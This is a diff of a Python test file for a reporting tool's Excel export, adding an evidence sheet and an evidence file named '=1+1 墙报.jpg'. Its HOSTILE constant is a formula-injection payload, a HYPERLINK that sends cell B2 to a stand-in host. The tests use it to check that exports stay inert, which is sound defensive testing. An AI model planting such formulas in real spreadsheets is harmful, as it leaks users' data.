@@ -34,7 +34,7 @@ def cli_json(cli, data_dir, *args):
 
 
 def test_workbook_sheets_title_rows_and_creator(ledger):
-    assert ledger.sheetnames == ["任务", "义务", "报告", "按单位", "考核"]
+    assert ledger.sheetnames == ["任务", "义务", "报告", "佐证材料", "按单位", "考核"]
     assert AS_OF in ledger.properties.title
     assert ledger.properties.creator == "lanxi"
     for sheet in ledger:
@@ -167,9 +167,12 @@ HOSTILE = '=HYPERLINK("http://x/?a="&B2,"查看")'
 
 
 @pytest.fixture
-def reviewed(cli, data_dir):
-    """Reports with every field filled (one hostile), one claim approved and one rejected."""
+def reviewed(cli, data_dir, tmp_path_factory):
+    """Reports with every field filled (one hostile, its evidence file's name too), one claim approved and one
+    rejected."""
     common = ("--data", str(data_dir), "--as-of", AS_OF, "--no-commit")
+    photo = tmp_path_factory.mktemp("photos") / "=1+1 墙报.jpg"
+    photo.write_bytes(b"\xff\xd8\xff\xd9")
 
     def add(*args):
         result = cli("report", "add", *args, *common)
@@ -177,7 +180,7 @@ def reviewed(cli, data_dir):
         return result.stdout.strip()
 
     full = add("-t", "6.1", "-u", "苏家湖村", "-d", "2020-09-05", "-s", "进行中", "--rate", "0.6", "-n", "2",
-               "--note", HOSTILE, "--by", "=1+1", "-e", "photos/wall.jpg", "-e", "https://example.org/m")
+               "--note", HOSTILE, "--by", "=1+1", "-e", str(photo), "-e", "https://example.org/m")
     approved = add("-t", "1.1", "-u", "苏家湖村", "-d", "2020-09-02", "-s", "完成")
     rejected = add("-t", "1.1", "-u", "黄湖村", "-d", "2020-09-02", "-s", "done")
     for path, verdict in ((approved, "--approve"), (rejected, "--reject")):
@@ -208,7 +211,7 @@ def test_reports_sheet_has_every_report_field_and_its_review(cli, reviewed, tmp_
     assert (row["数量"], row["比率"], row["分项"]) == (2, 0.6, None)
     assert row["周期"] is None and src["period"] is None  # 6.1 is a one-off task
     assert (row["说明"], row["报告人"]) == (HOSTILE, "=1+1")
-    assert row["佐证"] == "photos/wall.jpg\nhttps://example.org/m"
+    assert row["佐证"] == "https://example.org/m\n=1+1 墙报.jpg"  # links, then the files by name
     assert row["记录时间"] == src["recorded"] and row["文件"] == src["file"]
     assert rows[Path(approved).stem]["审核结果"] == "已同意（已核验）"
     assert rows[Path(rejected).stem]["审核结果"] == "已退回"
